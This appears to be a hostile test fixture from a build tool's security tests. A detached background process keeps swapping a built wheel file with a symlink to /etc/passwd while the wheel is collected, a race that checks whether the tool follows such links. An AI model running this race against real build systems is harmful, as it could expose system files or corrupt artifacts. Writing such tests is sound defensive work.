"""Leaves a process behind that goes on swapping the wheel with a symlink while it is collected."""

import os
import time

from hostile import start, tried


def swap(wheel):
    os.setsid()
    with open(wheel, "rb") as file:
        content = file.read()
    fresh = wheel + ".new"
    while True:
        try:
            os.symlink("/etc/passwd", fresh)
            os.replace(fresh, wheel)
            with open(fresh, "wb") as file:
                file.write(content)
            os.link(fresh, wheel + ".link")
            os.replace(fresh, wheel)
            os.unlink(wheel + ".link")
        except OSError:
            return


def attack(directory, files):
    tried(True, "a process that goes on")


def after(wheel):
    start(swap, wheel)
    # It is at work already when the build ends.
    time.sleep(0.02)
